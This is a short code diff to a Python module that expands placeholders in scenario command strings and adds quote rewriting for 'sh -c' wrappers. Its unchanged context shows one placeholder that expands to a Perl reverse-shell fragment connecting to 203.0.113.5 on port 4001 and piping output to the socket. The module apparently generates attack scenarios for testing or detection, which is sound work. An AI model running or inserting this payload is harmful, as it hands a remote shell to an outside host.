@@ -38,6 +38,7 @@ _PLACEHOLDERS = (
         r'connect(S,sockaddr_in(4001,inet_aton("203.0.113.5")));open(STDOUT,">&S");open(STDERR,">&S");',
     ),
 )
+_DOUBLE_QUOTED = re.compile(r'((?:ba|da|z)?sh -c) "([^"\'\\]*)"')
 
 
 class ScenarioError(ValueError):
@@ -67,7 +68,9 @@ class Scenario:
         text = _REMARK.sub("", self.command)
         for pattern, full in _PLACEHOLDERS:
             text = pattern.sub(full, text)
-        return text
+        inner = _DOUBLE_QUOTED.fullmatch(text)
+        # What stands in the quotes is for the inner shell, `$name` in it too.
+        return f"{inner[1]} '{inner[2]}'" if inner else text
 
 
 def read(path: Path) -> list[Scenario]:
